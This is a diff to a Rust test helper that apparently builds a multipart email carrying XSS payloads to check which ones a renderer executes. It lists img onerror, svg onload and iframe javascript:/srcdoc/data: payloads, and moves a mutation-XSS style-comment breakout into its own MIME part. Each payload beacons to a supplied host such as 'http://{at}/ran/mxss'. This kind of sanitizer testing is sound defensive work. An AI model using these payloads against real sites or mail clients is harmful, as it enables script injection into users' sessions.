@@ -70,11 +70,6 @@ fn attacks(at: &str) -> String {
         format!("<img src=x onerror=\"{}\">", run("onerror")),
         format!("<body onload=\"{}\">", run("onload")),
         format!("<svg onload=\"{}\"><script>{}</script></svg>", run("svg"), run("svg-script")),
-        format!(
-            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 \
-             onerror={}&gt;\">",
-            run("mxss")
-        ),
         format!("<iframe src=\"javascript:{}\"></iframe>", run("iframe")),
         format!("<iframe srcdoc=\"<script>{}</script>\"></iframe>", run("srcdoc")),
         format!("<iframe src=\"data:text/html,<script>{}</script>\"></iframe>", run("data")),
@@ -107,6 +102,14 @@ fn attacks(at: &str) -> String {
     .join("\n")
 }
 
+/// What ends in the middle takes the rest of its part with it: it has one of its own.
+fn unclosed(at: &str) -> String {
+    format!(
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 \
+         onerror=new Image().src='http://{at}/ran/mxss'&gt;\">"
+    )
+}
+
 fn letter(at: &str) -> Vec<u8> {
     let picture = data_encoding::BASE64.encode(GIF);
     format!(
@@ -114,8 +117,10 @@ fn letter(at: &str) -> Vec<u8> {
          Message-ID: <hums@peregrine.example>\r\nMIME-Version: 1.0\r\n\
          Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\
          Content-Type: text/html; charset=utf-8\r\n\r\n{}\r\n--b\r\n\
+         Content-Type: text/html; charset=utf-8\r\n\r\n{}\r\n--b\r\n\
          Content-Type: image/gif\r\nContent-ID: <dot@1>\r\n\
          Content-Transfer-Encoding: base64\r\n\r\n{picture}\r\n--b--\r\n",
+        unclosed(at),
         attacks(at).replace('\n', "\r\n")
     )
     .into_bytes()
